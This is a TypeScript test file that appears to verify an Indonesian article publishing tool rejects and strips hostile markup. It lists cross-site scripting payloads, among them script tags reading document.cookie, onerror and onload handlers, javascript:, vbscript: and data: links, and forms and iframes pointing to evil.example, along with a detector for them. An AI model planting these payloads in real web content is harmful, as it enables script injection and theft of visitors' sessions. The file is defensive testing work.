/**
 * Hostile article bodies: markup and links meant to run script or load
 * something. Each is checked twice: the checker refuses the markup, naming
 * the file and line, and the renderer (src/lib/markdown/render.ts) lets none
 * of it through even if it were published, so neither layer depends on the
 * other. Every case runs under a timeout of seconds (the point is
 * "never hangs", not a speed test).
 */
import { parse } from 'parse5';
import { describe, expect, it } from 'vitest';
import { runCheck } from '../../src/lib/check/index.ts';
import { renderArticleBody } from '../../src/lib/markdown/render.ts';
import { articleText, useCorpora } from '../helpers/corpus.ts';

/** Generous bound per case, even under coverage: a hang fails the test instead of stalling the run. */
const BOUND_MS = 15_000;

const corpus = useCorpora();

/** Bodies that try to run script or load something when rendered. */
const HOSTILE_BODIES: Record<string, string> = {
  'a <script> block': 'Teks.\n\n<script>alert(document.cookie)</script>',
  'an inline <script>': 'Teks <script>alert(1)</script> lanjut.',
  'an <iframe>': 'Teks.\n\n<iframe src="https://evil.example/"></iframe>',
  'an <img onerror>': 'Teks <img src=x onerror=alert(1)> lanjut.',
  'an <svg onload>': 'Teks.\n\n<svg onload="alert(1)"><circle r="1"/></svg>',
  'a <style> block': 'Teks.\n\n<style>body{background:url(https://evil.example/x)}</style>',
  'a <form> posting elsewhere':
    'Teks.\n\n<form action="https://evil.example/"><input name="p"></form>',
  'a <base href>': 'Teks.\n\n<base href="https://evil.example/">',
  'a <meta refresh>': 'Teks.\n\n<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  'an <object>': 'Teks.\n\n<object data="https://evil.example/x.swf"></object>',
  'an <a href="JaVaScRiPt:…">': 'Klik <a href="JaVaScRiPt:alert(1)">di sini</a>.',
  'a link with javascript:': 'Klik [di sini](javascript:alert(1)).',
  'a link with spaced JAVASCRIPT:': 'Klik [di sini](<  JAVASCRIPT:alert(1)>).',
  'a link with an entity-encoded scheme': 'Klik [di sini](&#106;avascript:alert(1)).',
  'a link with data:text/html':
    'Klik [di sini](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==).',
  'an image with data:': '![foto](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  'an autolink <javascript:alert(1)>': 'Lihat <javascript:alert(1)> sekarang.',
  'a reference definition with vbscript:': 'Lihat [ini][r].\n\n[r]: vbscript:msgbox',
  'an HTML comment hiding a script': 'Teks <!-- <script>alert(1)</script> --> lanjut.',
};

/** Elements that may not appear in a rendered article body. */
const FORBIDDEN_ELEMENTS = new Set([
  'script',
  'iframe',
  'style',
  'form',
  'input',
  'base',
  'meta',
  'link',
  'object',
  'embed',
  'svg',
  'math',
]);
/** Schemes a rendered link or image may use (relative addresses have none). */
const SAFE_SCHEME = /^(?:https?|mailto|irc|ircs|xmpp):/i;

interface HtmlNode {
  nodeName: string;
  tagName?: string;
  attrs?: { name: string; value: string }[];
  childNodes?: HtmlNode[];
  content?: HtmlNode;
}

/** Every reason the rendered HTML could run script or load something it should not. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const stack: HtmlNode[] = [parse(`<!doctype html><body>${html}`) as unknown as HtmlNode];
  while (stack.length > 0) {
    const node = stack.pop();
    if (!node) break;
    stack.push(...(node.childNodes ?? []), ...(node.content ? [node.content] : []));
    if (node.tagName === undefined) continue;
    if (FORBIDDEN_ELEMENTS.has(node.tagName)) found.push(`<${node.tagName}>`);
    for (const { name, value } of node.attrs ?? []) {
      if (/^on/i.test(name)) found.push(`${name}= on <${node.tagName}>`);
      if (name === 'style') found.push(`style= on <${node.tagName}>`);
      if (['href', 'src', 'action', 'formaction', 'xlink:href'].includes(name)) {
        // Browsers ignore control characters and spaces in a scheme.
        const compact = [...value].filter((c) => c.charCodeAt(0) > 0x20).join('');
        const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(compact)?.[1];
        if (scheme !== undefined && !SAFE_SCHEME.test(compact))
          found.push(`${name}="${value}" on <${node.tagName}>`);
      }
    }
  }
  return found;
}

describe('hostile article bodies', () => {
  it.each(Object.entries(HOSTILE_BODIES))(
    '%s: the checker names the file and line, and rendering neutralises it',
    (_name, body) => {
      const file = 'articles/hostile.md';
      const { problems } = runCheck(corpus({ [file]: articleText(body) }).root);
      const mine = problems.filter((p) => p.file.endsWith(file));
      expect(mine.map((p) => p.code)).toEqual(
        expect.arrayContaining([expect.stringMatching(/^body-(raw-html|link-scheme)$/)]),
      );
      for (const p of mine) {
        expect(p.field).toBe('(body)');
        expect(p.line).toBeGreaterThan(1);
      }
      const html = renderArticleBody(body);
      expect(dangers(html), html).toEqual([]);
    },
    BOUND_MS,
  );

  it('has a detector that sees what it looks for', () => {
    expect(
      dangers(
        '<script></script><a href=" JaVa\tScript:x" onclick="y">a</a><img src="data:x" style="z">',
      ),
    ).toHaveLength(5);
  });

  it('renders the text around the removed markup', () => {
    expect(renderArticleBody('Teks <script>alert(1)</script> lanjut.')).toContain('lanjut');
    expect(renderArticleBody('Klik [di sini](javascript:alert(1)).')).toContain('di sini');
  });

  it('keeps ordinary http(s) and mailto links', () => {
    const html = renderArticleBody(
      'Lihat [situs](https://jambikota.go.id/) dan [surel](mailto:humas@jambikota.go.id).',
    );
    expect(html).toContain('href="https://jambikota.go.id/"');
    expect(html).toContain('href="mailto:humas@jambikota.go.id"');
    expect(dangers(html)).toEqual([]);
  });
});
